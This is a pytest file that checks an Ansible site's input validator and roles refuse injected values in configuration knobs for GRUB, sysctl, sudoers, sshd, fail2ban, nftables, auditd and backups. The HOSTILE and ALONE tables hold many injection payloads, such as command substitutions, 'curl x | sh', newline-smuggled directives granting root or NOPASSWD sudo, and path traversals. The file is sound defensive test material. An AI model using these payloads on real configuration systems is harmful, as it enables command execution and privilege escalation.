"""The roles' knobs that reach files the system reads as code (sitemodel/inputs.py): GRUB's
drop-in is sourced by a root shell, /etc/profile.d by every login shell, modprobe runs
install lines, apt.conf, deb822 sources, sshd, fail2ban, rsyslog, systemd units, logrotate,
chrony, auditd and sysctl.d take one setting per line. Hostile values are refused with the
knob named, by the function, by role hardening on its own, and by the site's preflight."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
import yaml

from conftest import BIN, ROOT, edit_yaml, preflight, run
from sitemodel.inputs import KNOBS, ROLES, input_errors

DEFAULTS: dict[str, Any] = {}
for _role in ROLES:
    DEFAULTS.update(
        yaml.safe_load((ROOT / "roles" / _role / "defaults/main.yml").read_text("utf-8")) or {}
    )
# Defaults that are templates, as they render in the lab.
RENDERED = {
    **DEFAULTS,
    "hardening_sudo_group": "sysadmins",
    "hardening_su_group": "sysadmins",
    "base_apt_mirror": "http://deb.debian.org/debian",
    "base_apt_security_mirror": "http://deb.debian.org/debian-security",
    "logging_tls_dir": "/etc/cite/pki",
    "logging_servers": ["logs01"],
    "log_server_tls_dir": "/etc/cite/pki",
    "time_ntp_servers": ["10.210.1.13"],
    "time_serve_networks": ["10.210.0.0/24", "10.210.10.0/24"],
    "backup_client_tenant": "alpha",
    "backup_client_server": "backup01",
    "backup_client_server_address": "10.210.1.20",
}
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGc1b2ZtZXhhbXBsZWtleWZvcmRvY3VtZW50YXRpb24"
SHA256 = "sha256:" + "0123456789abcdef" * 4

HOSTILE: dict[str, tuple[str, Any, str]] = {
    "grub-command-substitution": (
        "hardening_kernel_cmdline",
        ["quiet", "x=$(touch /tmp/cs-pwned)"],
        "'x=$(touch /tmp/cs-pwned)' is not a kernel option",
    ),
    "grub-quote": ("hardening_kernel_cmdline", ['a"; reboot; "'], "is not a kernel option"),
    "grub-space": ("hardening_kernel_cmdline", ["pti=on mitigations=off"], "is not a kernel"),
    "sysctl-newline-value": (
        "hardening_sysctl_extra",
        {"kernel.sysrq": "0\nkernel.modprobe = /tmp/x"},
        "the value of kernel.sysrq",
    ),
    "sysctl-newline-key": (
        "hardening_sysctl_extra",
        {"kernel.sysrq = 0\nkernel.core_pattern": "|/tmp/x"},
        "is not a sysctl key",
    ),
    "sysctl-pipe": ("hardening_sysctl_kernel", {"kernel.core_pattern": "|/tmp/x %p"}, "value"),
    "sysctl-yaml-bool": ("hardening_sysctl_network", {"net.ipv4.ip_forward": False}, "(False)"),
    "modprobe-install-command": (
        "hardening_blacklisted_modules",
        ["usb-storage /bin/sh -c id\ninstall ext4"],
        "is not a kernel module name",
    ),
    "sudoers-newline": (
        "hardening_sudo_defaults",
        ["noexec\nALL ALL=(ALL) NOPASSWD: ALL"],
        "is not one sudoers Defaults entry",
    ),
    "umask-shell": ("hardening_umask", "077; curl x | sh", "is not an octal umask"),
    "umask-yaml-octal": ("hardening_umask", 63, "63 is not an octal umask"),
    "sudo-group-arguments": (
        "hardening_sudo_group",
        "root --remove /usr/bin/sudo",
        "is not an account or group name",
    ),
    "su-group-newline": (
        "hardening_su_group",
        "wheel\nauth sufficient",
        "is not an account or group name",
    ),
    "cron-allow-newline": (
        "hardening_cron_allow",
        ["root\nmallory"],
        "is not an account or group name",
    ),
    "package-option": (
        "hardening_installed_packages",
        ["-oAPT::Update::Pre-Invoke::=id"],
        "is not a Debian package name",
    ),
    "compiler-traversal": ("hardening_compilers", ["/usr/../etc/shadow"], "no '..'"),
    "fstab-newline": (
        "hardening_mount_options",
        {"/tmp": ["nodev\n/dev/sdb /root ext4 defaults 0 0"]},
        "is not a mount option",
    ),
    "fstab-mount-point": ("hardening_mount_options", {"tmp": ["nodev"]}, "is not an absolute"),
    "aide-newline": ("hardening_aide_checksums", "sha256\n!/etc", "AIDE checksums"),
    "list-as-string": ("hardening_kernel_cmdline", "pti=on", "must be a list, got str"),
    # Beyond role hardening: apt, unattended-upgrades, sshd, fail2ban, units, chrony, audit.
    "apt-mirror-trusted": (
        "base_apt_mirror",
        "http://mirror.example/debian\nTrusted: yes",
        "is not a URL",
    ),
    "unattended-origin-quote": (
        "base_unattended_origins",
        ['origin=Debian";};DPkg::Pre-Invoke{"touch /tmp/cs-pwned'],
        "is not an origin pattern",
    ),
    "fail2ban-ignorecommand": (
        "ssh_fail2ban_ignoreip",
        ["127.0.0.1/8\nignorecommand = touch /tmp/cs-pwned"],
        "is not an IP address or network",
    ),
    "fail2ban-scope-id": (
        "ssh_fail2ban_ignoreip",
        ["::1%x\nignorecommand = touch /tmp/cs-pwned"],
        "is not an IP address or network",
    ),
    "chrony-scope-id": ("time_serve_networks", ["fd42::/64%x\nallow all"], "is not an IP"),
    "sshd-listen-scope-id": ("backup_server_listen", "fe80::1%eth0", "(no scope id)"),
    "sshd-listen-directive": (
        "ssh_listen_addresses",
        ["10.0.0.1\nPermitRootLogin yes"],
        "is not an address[:port]",
    ),
    "sftp-chroot-match": (
        "ssh_sftp_chroot_groups",
        [{"group": "depot", "directory": "/srv/sftp\nMatch all"}],
        "has a directory that is not an absolute path",
    ),
    "unit-exec-space": ("log_server_root", "/srv/log -exec sh {} ;", "is not an absolute path"),
    "forwarder-unit-path": ("logging_servers", ["../../etc/cron.d/x"], "is not an inventory name"),
    "rsyslog-quote": ("logging_stats_file", '/var/log/x" action(type="omprog', "is not an"),
    "chrony-allow-all": ("time_serve_networks", ["10.0.0.0/8\nallow all"], "is not an IP"),
    "audit-never": ("audit_privileged_commands", ["/usr/bin/sudo\n-A never,exit"], "path"),
    "nft-rate-accept": ("firewall_log_rate", "10/minute accept", "is not a rate"),
    # Accounts: passwd, shadow, authorized_keys and groups take one entry per line or field.
    "admin-key-newline": (
        "base_admins",
        [{"name": "alice", "ssh_keys": [f"{KEY} a\n{KEY} mallory"]}],
        "is not one SSH public key",
    ),
    "admin-key-options": (
        "base_admins",
        [{"name": "alice", "ssh_keys": [f'command="/tmp/x" {KEY}']}],
        "is not one SSH public key",
    ),
    "admin-name-newline": ("base_admins", [{"name": "alice\n", "ssh_keys": [KEY]}], "has name"),
    "admin-gecos-colon": (
        "base_admins",
        [{"name": "alice", "comment": "A:0:0::/root:/bin/sh", "ssh_keys": [KEY]}],
        "is not a full name",
    ),
    "admin-shadow-colon": (
        "base_admins",
        [{"name": "alice", "password_hash": "$y$x:0:99999", "ssh_keys": [KEY]}],
        "is not a crypt hash",
    ),
    "admin-without-key": ("base_admins", [{"name": "alice"}], "has no ssh_keys"),
    "admin-unknown-field": (
        "base_admins",
        [{"name": "alice", "ssh_keys": [KEY], "shell": "/tmp/x"}],
        "has field(s) shell not among",
    ),
    "tenant-admin-sudo": (
        "base_tenant_admins",
        [{"name": "bob", "groups": ["adm_ville", "sudo"], "ssh_keys": [KEY]}],
        "'sudo', which gives root",
    ),
    "tenant-admin-journal": (
        "base_tenant_admins",
        [{"name": "bob", "groups": ["systemd-journal"], "ssh_keys": [KEY]}],
        "gives root or root's data",
    ),
    "container-unit-newline": (
        "base_container_skipped_units",
        ["acct.service\n"],
        "is not a service unit name",
    ),
    # borgmatic runs these hooks' commands as root.
    "borgmatic-dump-command": (
        "backup_client_databases",
        [{"type": "postgresql", "name": "all", "pg_dump_command": "sh -c 'id > /tmp/x'"}],
        "has field(s) pg_dump_command not among",
    ),
    "borgmatic-options": (
        "backup_client_databases",
        [{"type": "mysql", "name": "all", "options": "--result-file=/etc/passwd"}],
        "has field(s) options",
    ),
    "database-name-space": (
        "backup_client_databases",
        [{"type": "postgresql", "name": "app --file=/tmp/x"}],
        "has name: ",
    ),
    "known-hosts-newline": (
        "backup_client_server_address",
        "10.0.0.5\n@cert-authority * ssh-ed25519 AAAA",
        "is not a host name or address",
    ),
    "repository-path-tenant": ("backup_client_tenant", "../bravo", "is not a word"),
    # Monitoring: PromQL thresholds, durations and receivers.
    "promql-threshold": (
        "monitoring_server_thresholds",
        {"disk_used_ratio": "0.85 or vector(0)"},
        "is not a number",
    ),
    "alert-for-yaml": ("monitoring_server_alert_for", {"host_down": "2m\n  labels: {}"}, "dur"),
    "receiver-saas": (
        "monitoring_server_operations_receivers",
        [{"webhook": "https://hooks.saas.example/T000/B000"}],
        "never outside",
    ),
    # Hypervisors: a download's destination, modules-load.d, the fleet account.
    "image-name-traversal": (
        "hypervisor_base_images",
        [{"name": "../../../etc/cron.d/x", "url": "http://m/i.qcow2", "checksum": SHA256}],
        "has name: ",
    ),
    "image-without-checksum": (
        "hypervisor_base_images",
        [{"name": "debian-12.qcow2", "url": "http://m/i.qcow2", "checksum": "md5:00"}],
        "has checksum: ",
    ),
    "pool-path-traversal": (
        "hypervisor_pools",
        [{"name": "vms", "path": "/var/lib/libvirt/../../../etc"}],
        "has path: ",
    ),
    "modules-load-newline": ("hypervisor_modules", ["kvm\nusb_storage"], "kernel module"),
    "fleet-key-options": (
        "hypervisor_fleet_keys",
        [f'from="*",command="/bin/sh" {KEY}'],
        "is not one SSH public key",
    ),
    "fleet-user-root": ("hypervisor_fleet_user", "root:x", "is not an account or group name"),
    # Raw by design, but one rule each: no second rule, no control option.
    "audit-rule-delete-all": ("audit_extra_rules", ["-w /srv/app -p wa -D"], "uses -D"),
    "audit-rule-off": ("audit_extra_rules", ["-e 0"], "is not one audit rule"),
    "audit-rule-newline": ("audit_extra_rules", ["-w /srv/app -p wa\n-e 0"], "one line"),
    "nft-escape-chain": (
        "firewall_extra_input_rules",
        ["tcp dport 8080 accept } chain x { type filter hook input priority -1 accept"],
        "its braces leave or nest the chain",
    ),
    "nft-semicolon": ("firewall_extra_input_rules", ["accept; flush ruleset"], "no ; # $"),
    "nft-include": ("firewall_extra_input_rules", ['include "/tmp/x.nft"'], "holds a command"),
    "nft-include-indented": (
        "firewall_extra_input_rules",
        [' include "/srv/*/fw.nft"'],
        "holds a command or directive",
    ),
    "nft-redefine": ("firewall_extra_input_rules", ["tcp dport 1 redefine x = 2"], "directive"),
    "nft-add-rule": ("firewall_extra_input_rules", ["add rule inet f input accept"], "command"),
    "audit-never-task": ("audit_extra_rules", ["-a never,task"], "is not an exit-list rule"),
    "audit-exclude": (
        "audit_extra_rules",
        ["-a always,exclude -F msgtype>=1000"],
        "is not an exit-list rule",
    ),
    "audit-prepend": ("audit_extra_rules", ["-A never,exit -S all"], "is not one audit rule"),
    "tenant-admin-takes-postgres": (
        "base_tenant_admins",
        [{"name": "postgres", "groups": ["adm_aphp"], "ssh_keys": [KEY]}],
        "is a system or service account",
    ),
    "tenant-admin-kvm": (
        "base_tenant_admins",
        [{"name": "bob", "groups": ["kvm"], "ssh_keys": [KEY]}],
        "'kvm', which gives root",
    ),
    "admin-takes-root": (
        "base_admins",
        [{"name": "root", "ssh_keys": [KEY]}],
        "is a system or service account",
    ),
    "fleet-user-root-account": ("hypervisor_fleet_user", "root", "is a system or service"),
    "threshold-nan": ("monitoring_server_thresholds", {"disk_used_ratio": float("nan")}, "finite"),
    "banner-agetty-escape": ("hardening_banner", "Accès \\e[2J réservé", "a backslash"),
    "banner-c1-csi": ("hardening_banner", "Accès \x9b2J réservé", "a control character"),
    "freeipmi-privilege": (
        "monitoring_server_bmc_privilege",
        "operator\ncipher-suite-id 0",
        "is not one of user, operator, admin",
    ),
    "freeipmi-workaround": (
        "monitoring_server_bmc_workarounds",
        ["opensesspriv\nusername admin"],
        "is not a word",
    ),
    "tls-dir-root": ("pki_tls_dir", "/root/../etc/ssl/private/..", "no '..'"),
    "metrics-dir-relative": ("backup_client_metrics_dir", "etc/logrotate.d", "absolute path"),
    "admin-shell-argument": ("base_admin_shell", "/bin/sh -c id", "is not an absolute path"),
    "banner-terminal-escape": ("hardening_banner", "Accès\x1b]0;pwned\x07", "control character"),
    "host-keys-none": ("ssh_host_key_types", [], "ssh_host_key_types is empty"),
    "host-keys-dsa": ("ssh_host_key_types", ["ed25519", "dsa"], "is not one of ed25519"),
    "prometheus-remote-write": (
        "monitoring_server_scrape_interval",
        "30s\nremote_write: [{url: 'https://saas.example'}]",
        "is not a Prometheus duration",
    ),
}

LEGITIMATE: dict[str, Any] = {
    "base_apt_mirror": "http://10.210.0.5:3142/debian",
    "base_apt_security_mirror": "file:///srv/mirror/debian-security",
    "ssh_listen_addresses": ["10.210.0.10", "[fd42::10]:22", "10.210.0.10:2222"],
    "ssh_sftp_chroot_groups": [{"group": "sftp_depot", "directory": "/srv/sftp/%u"}],
    "ssh_fail2ban_ignoreip": ["127.0.0.1/8", "::1", "10.210.0.0/24"],
    "time_upstream_servers": ["ntp1.ville.example", "10.210.0.1"],
    "monitoring_server_retention": "1y",
    "monitoring_server_repeat_interval": "1h30m",
    "backup_client_schedule": "Mon..Fri *-*-* 01:30:00",
    "logging_journald_max_retention": "6month",
    "logging_servers": ["logs01", "logs-02.salle_b"],
    "hardening_kernel_cmdline": ["mds=full,nosmt", "console=ttyS0,115200n8", "lsm=yama,apparmor"],
    "hardening_sysctl_extra": {
        "net.ipv4.ip_forward": 1,
        "net/ipv4/conf/eth0.100/rp_filter": 2,
        "-net.ipv6.conf.all.disable_ipv6": 1,
        "net.ipv4.ip_local_port_range": "49152 65535",
        "kernel.core_pattern": "/var/crash/core.%e.%p",
    },
    "hardening_sudo_defaults": ['env_keep += "LANG LC_ALL"', "!visiblepw", "passwd_tries=3"],
    "hardening_umask": "0027",
    "hardening_mount_options": {"/srv/data": ["nodev", "size=2G", "mode=1777"]},
    "base_admins": [
        {
            "name": "adupont",
            "comment": "Élodie Dupont (exploitation, bureau 2)",
            "password_hash": "$y$j9T$F5Jx5fExrKuPp53xLKQ..1$X3DX6M94c7o.9agCG9G317fhZg9SqC.5i5rd",
            "ssh_keys": [
                f"{KEY} adupont@poste-exploit",
                "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ== x",
            ],
            "groups": ["adm"],
        },
        {"name": "old_admin", "state": "absent"},
        {
            "name": "jose",
            "comment": None,
            "password_hash": "!$6$rounds=5000$abcdefgh$lockedbyusermod",
            "ssh_keys": [f"{KEY} José@portable\t"],
        },
    ],
    "base_tenant_admins": [{"name": "ville-admin1", "groups": ["adm_ville"], "ssh_keys": [KEY]}],
    "backup_client_databases": [
        {"type": "postgresql", "name": "all", "hostname": "db1.ville.example", "port": 5432},
        {"type": "postgresql", "name": "app", "username": "backup", "format": "custom"},
        {"type": "sqlite", "name": "wiki", "path": "/srv/wiki/wiki.db"},
        {"type": "mysql", "name": "all", "format": "sql", "label": "crm"},
        {
            "type": "postgresql",
            "name": "all",
            "hostname": "/var/run/postgresql",
            "port": "5432",
            "username": "Backup.User",
            "ssl_mode": "verify-full",
        },
    ],
    "monitoring_server_thresholds": {"disk_used_ratio": 0.9, "backup_max_age_hours": "30"},
    "monitoring_server_alert_for": {"host_down": "0", "disk_full": "1h30m"},
    "hardening_banner": "Accès réservé.\n\tToute connexion est enregistrée.\n",
    "monitoring_server_operations_receivers": [
        {"webhook": "http://10.0.10.20:9095/alerts"},
        {"email": "exploitation@ville.example"},
    ],
    "hypervisor_base_images": [
        {"name": "debian-12.qcow2", "url": "http://10.0.0.5/images/d12.qcow2", "checksum": SHA256},
        {
            "name": "debian-13.qcow2",
            "url": "http://10.0.0.5/images/trixie/latest/debian-13-generic-amd64.qcow2?v=1",
            "checksum": "sha512:http://10.0.0.5/images/trixie/latest/SHA512SUMS",
        },
    ],
    "hypervisor_fleet_keys": [f"{KEY} pulumi@poste-exploit"],
    "audit_extra_rules": [
        "-w /srv/app/config  -p rwxa -k app-config",
        "-a always,exit -F path=/usr/bin/x -F perm=x -F auid>=1000 -F auid!=4294967295 -k x",
        "-a exit,never -S open,openat -F success=0 -F exit=-EPERM -F key=noise",
        "-a always,exit -F arch=b64 -S open,openat -F exit=-EACCES -F auid>=1000 -k access",
    ],
    "firewall_extra_input_rules": [
        'ip saddr 10.0.20.0/24 tcp dport { 5432, 5433 } accept comment "replication"',
        "meta l4proto vrrp accept",
        "tcp dport 22 ct state new add @meter { ip saddr limit rate 3/minute } accept",
        "ip saddr @allowed tcp dport { 80, 443 } accept",
        'log prefix "l\'entrée: " counter drop'.replace("é", "e"),
        'iifname "eth0" ip6 saddr fd42::/64 accept',
    ],
}


def test_the_roles_defaults_are_accepted_and_every_knob_is_a_documented_default() -> None:
    assert input_errors(RENDERED) == []
    assert set(KNOBS) <= set(DEFAULTS)


def _hostile(default: Any) -> Any:
    """A value shaped like the knob's default, with a newline-injected setting in it (and a
    terminal escape, for the banner, whose lines are text by nature)."""
    injected = "x\nInjected = yes\x1b[2J"
    if isinstance(default, list):
        return [*default[:1], injected]
    if isinstance(default, dict):
        return {next(iter(default), "net.ipv4.ip_forward"): injected}
    return injected


@pytest.mark.parametrize("knob", sorted(KNOBS))
def test_every_checked_knob_refuses_a_line_injected_into_it(knob: str) -> None:
    found = input_errors({knob: _hostile(DEFAULTS[knob])})
    assert len(found) == 1, found
    assert found[0].startswith(knob), found


def test_values_a_site_legitimately_sets_are_accepted() -> None:
    assert input_errors({**RENDERED, **LEGITIMATE}) == []


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_hostile_value_is_refused_with_its_knob_named(case: str) -> None:
    knob, value, message = HOSTILE[case]
    found = input_errors({**RENDERED, knob: value})
    assert len(found) == 1, found
    assert found[0].startswith(f"{knob}"), found
    assert message in found[0], found


@pytest.mark.parametrize(
    ("values", "message"),
    [
        (
            {
                "base_admin_group": "ops",
                "base_tenant_admins": [{"name": "bob", "groups": ["ops"], "ssh_keys": [KEY]}],
            },
            "base_tenant_admins: bob in base_admin_group 'ops'",
        ),
        (
            {
                "base_admins": [{"name": "alice", "ssh_keys": [KEY]}],
                "base_tenant_admins": [{"name": "alice", "ssh_keys": [KEY]}],
            },
            "base_admins and base_tenant_admins both have alice",
        ),
        (
            {
                "base_admins": [{"name": "fleet", "ssh_keys": [KEY]}],
                "hypervisor_fleet_user": "fleet",
            },
            "hypervisor_fleet_user 'fleet' is also an admin's login",
        ),
    ],
    ids=["tenant-admin-in-custom-admin-group", "admin-in-both-lists", "fleet-is-an-admin"],
)
def test_accounts_never_overlap(values: dict[str, Any], message: str) -> None:
    """A login's keys and groups come from one entry only (else the other replaces them)."""
    (found,) = input_errors({**RENDERED, **values})
    assert found.startswith(message), found


def test_a_refused_admin_entry_is_named_and_its_password_hash_never_shown() -> None:
    secret = "$y$j9T$secretsalt$hashthatnomessageshows"
    entry = {"name": "alice", "password_hash": secret, "comment": "a\nb", "ssh_keys": [KEY]}
    for value in ([entry], {"alice": entry}):
        (found,) = input_errors({"base_admins": value})
        assert found.startswith("base_admins"), found
        assert secret not in found
        assert "hashthat" not in found
    (found,) = input_errors({"base_admins": [entry]})
    assert "the entry named 'alice' has comment: is not a full name" in found


def _role_play(
    tmp_path: Path, values: dict[str, Any], role: str = "hardening", tasks: str = "inputs"
) -> tuple[int, str]:
    """A role's own check (role hardening's tasks/inputs.yml by default), run alone on the
    controller."""
    play = [
        {
            "hosts": "localhost",
            "connection": "local",
            "gather_facts": False,
            "vars": values,
            "tasks": [
                {
                    "ansible.builtin.import_role": {"name": role, "tasks_from": tasks},
                }
            ],
        }
    ]
    path = tmp_path / "play.yml"
    path.write_text(yaml.safe_dump(play), encoding="utf-8")
    result = run([str(BIN / "ansible-playbook"), "-i", "localhost,", str(path)])
    return result.returncode, result.stdout + result.stderr


def test_the_role_on_its_own_refuses_a_hostile_value_and_accepts_its_defaults(
    tmp_path: Path,
) -> None:
    rc, out = _role_play(tmp_path, {"hardening_kernel_cmdline": ["x=`reboot`"]})
    assert rc != 0
    assert "hardening_kernel_cmdline: 'x=`reboot`' is not a kernel option" in out
    rc, out = _role_play(tmp_path, {})
    assert rc == 0, out[-2000:]


@pytest.mark.parametrize(
    ("values", "problem"),
    [
        (
            {"hardening_kernel_cmdline": ["iommu=force", "x=$(touch /tmp/cs-grub-pwned)"]},
            "'x=$(touch /tmp/cs-grub-pwned)' is not a kernel option",
        ),
        (
            {"hardening_sysctl_extra": {"kernel.sysrq": "0\nkernel.modprobe = /tmp/x"}},
            "the value of kernel.sysrq",
        ),
        ({"hardening_blacklisted_modules": ["sctp /bin/sh"]}, "is not a kernel module name"),
        ({"base_apt_mirror": "http://mirror.example/debian\nTrusted: yes"}, "is not a URL"),
        (
            {"ssh_fail2ban_ignoreip": ["::1", "10.0.0.0/8\nignorecommand = /tmp/x"]},
            "is not an IP address or network",
        ),
        (
            {"log_server_root": "/srv/log -exec /tmp/x {} ;"},
            "'/srv/log -exec /tmp/x {} ;' is not an absolute path",
        ),
        (
            {
                "hypervisor_base_images": [
                    {"name": "../../../etc/cron.d/x", "url": "http://m/x", "checksum": SHA256}
                ]
            },
            "the entry named '../../../etc/cron.d/x' has name: is not a file name",
        ),
        (
            {"base_tenant_admins": [{"name": "eve", "groups": ["sudo"], "ssh_keys": [KEY]}]},
            "holds 'sudo', which gives root or root's data",
        ),
    ],
    ids=[
        "grub-shell",
        "sysctl-newline",
        "modprobe-command",
        "apt-trusted",
        "fail2ban-command",
        "unit-exec",
        "image-traversal",
        "tenant-admin-sudo",
    ],
)
def test_the_site_preflight_refuses_it_naming_the_hosts_before_any_is_touched(
    lab_copy: Path, values: dict[str, Any], problem: str
) -> None:
    edit_yaml(lab_copy / "group_vars" / "hypervisors.yml", lambda d: d.update(values))
    rc, out = preflight(lab_copy)
    flat = " ".join(out.split())
    assert rc != 0, flat[-2000:]
    (knob,) = values
    assert f"host 'hv01': {knob}: " in flat, flat[-3000:]
    assert problem in flat, flat[-3000:]
    assert "UNREACHABLE" not in out


def _role_of(knob: str) -> str:
    return max((role for role in ROLES if knob.startswith(f"{role}_")), key=len)


CHECKING_ROLES = sorted({_role_of(knob) for knob in KNOBS})


@pytest.mark.parametrize("role", CHECKING_ROLES)
def test_each_role_checks_alone_every_knob_of_its_own(role: str) -> None:
    """The dict a role hands the filter (its vars/main.yml) holds exactly its knobs of
    sitemodel/inputs.py, and one of its tasks asserts it is empty: the lists cannot drift
    apart, and a role run outside site.yml checks them too."""
    text = (ROOT / "roles" / role / "vars/main.yml").read_text("utf-8")
    handed = set(re.findall(rf"'({role}_\w+)': \1\b", text))
    assert handed == {knob for knob in KNOBS if _role_of(knob) == role}
    assert _check_tasks(role), f"no task of role {role} asserts _{role}_input_errors is empty"


def _check_tasks(role: str) -> set[str]:
    """Names of the role's tasks that assert its knobs (any file of tasks/)."""
    names = set()
    for path in (ROOT / "roles" / role / "tasks").glob("*.yml"):
        for task in _tasks(yaml.safe_load(path.read_text("utf-8")) or []):
            that = task.get("ansible.builtin.assert", {}).get("that", [])
            if f"_{role}_input_errors | length == 0" in json.dumps(that):
                names.add(task["name"])
    return names


def _tasks(tasks: list[dict[str, Any]]) -> list[dict[str, Any]]:
    found = []
    for task in tasks:
        found.append(task)
        found += _tasks(task.get("block", []))
    return found


# One hostile value per role (each role's first check stops it), run in one playbook.
ALONE: dict[str, tuple[str, Any, str]] = {
    "audit": ("audit_extra_rules", ["-w /srv -p wa -D"], "uses -D"),
    "backup_client": ("backup_client_databases", [{"type": "mysql", "name": "a b"}], "has name"),
    "backup_maintainer": ("backup_maintainer_schedule", "daily\nExecStart=/tmp/x", "calendar"),
    "backup_replica": ("backup_replica_root", "/srv/replica -exec", "not an absolute path"),
    "backup_server": ("backup_server_listen", "0.0.0.0\nPermitRootLogin yes", "not an IP"),
    "base": ("base_container_skipped_units", ["acct.service\n"], "not a service unit"),
    "firewall": ("firewall_extra_input_rules", ['include "/tmp/x"'], "holds a command"),
    "hardening": ("hardening_umask", "077; id", "is not an octal umask"),
    "hypervisor": ("hypervisor_modules", ["kvm\nx"], "is not a kernel module name"),
    "log_server": ("log_server_root", "/srv/log -exec", "is not an absolute path"),
    "logging": ("logging_stats_file", '/x" action(type="omprog', "is not an absolute path"),
    "monitoring_agent": ("monitoring_agent_collectors", ["a b"], "is not a word"),
    "monitoring_server": ("monitoring_server_thresholds", {"disk_used_ratio": "1 or up"}, "not a"),
    "pki": ("pki_tls_dir", "/root/../etc", "is not an absolute path"),
    "ssh": ("ssh_listen_addresses", ["10.0.0.1\nPermitRootLogin yes"], "address[:port]"),
    "time": ("time_upstream_servers", ["ntp.example\nallow all"], "is not a host name"),
}


def test_every_role_run_alone_refuses_its_hostile_value_before_any_change(
    tmp_path: Path,
) -> None:
    """Each role, imported alone on the controller in --check with one hostile value: it
    stops at its own check, with the knob named, and before any task that changes."""
    assert set(ALONE) == set(CHECKING_ROLES)
    tasks = []
    for role, (knob, value, _) in sorted(ALONE.items()):
        tasks.append(
            {
                "name": f"role {role}",
                "vars": {knob: value},
                "block": [{"ansible.builtin.import_role": {"name": role}}],
                "rescue": [
                    {
                        "ansible.builtin.set_fact": {
                            "stopped": "{{ stopped | default({}) | combine({'"
                            + role
                            + "': {'task': ansible_failed_task.name,"
                            " 'msg': ansible_failed_result.msg}}) }}"
                        }
                    }
                ],
            }
        )
    tasks.append(
        {
            "ansible.builtin.copy": {
                "content": "{{ stopped | default({}) | to_json }}",
                "dest": str(tmp_path / "stopped.json"),
            },
            "check_mode": False,
        }
    )
    play = [
        {
            "hosts": "localhost",
            "connection": "local",
            "gather_facts": False,
            "vars": {"base_apt_mirror": "http://mirror.example/debian"},
            "tasks": tasks,
        }
    ]
    path = tmp_path / "play.yml"
    path.write_text(yaml.safe_dump(play), encoding="utf-8")
    result = run([str(BIN / "ansible-playbook"), "--check", "-i", "localhost,", str(path)])
    out = result.stdout + result.stderr
    assert result.returncode == 0, out[-3000:]
    stopped = json.loads((tmp_path / "stopped.json").read_text("utf-8"))
    assert sorted(stopped) == sorted(ALONE), out[-3000:]
    for role, (knob, _, message) in ALONE.items():
        found = stopped[role]
        assert f"{knob}: " in found["msg"], (role, found)
        assert message in found["msg"], (role, found)
        assert found["task"] in _check_tasks(role), (role, found)
    # The one change is the test's own record (stopped.json), outside --check.
    assert re.search(r"localhost +: ok=\d+ +changed=1 ", out), out[-2000:]


def test_role_base_alone_checks_the_whole_mirror_url(tmp_path: Path) -> None:
    hostile = {"base_apt_mirror": "http://mirror.example/debian\nTrusted: yes"}
    rc, out = _role_play(tmp_path, hostile, role="base", tasks="preflight")
    assert rc != 0
    assert "base_apt_mirror: 'http://mirror.example/debian\\nTrusted: yes' is not a URL" in out
    rc, out = _role_play(
        tmp_path,
        {"base_apt_mirror": "http://mirror.example/debian"},
        role="base",
        tasks="preflight",
    )
    assert rc == 0, out[-2000:]


def test_role_base_alone_refuses_a_tenant_admin_in_its_admin_group(tmp_path: Path) -> None:
    values = {
        "base_apt_mirror": "http://mirror.example/debian",
        "base_admin_group": "ops",
        "base_tenant_admins": [{"name": "bob", "groups": ["ops"], "ssh_keys": [KEY]}],
    }
    rc, out = _role_play(tmp_path, values, role="base", tasks="preflight")
    assert rc != 0
    assert "base_tenant_admins: bob in base_admin_group 'ops'" in out
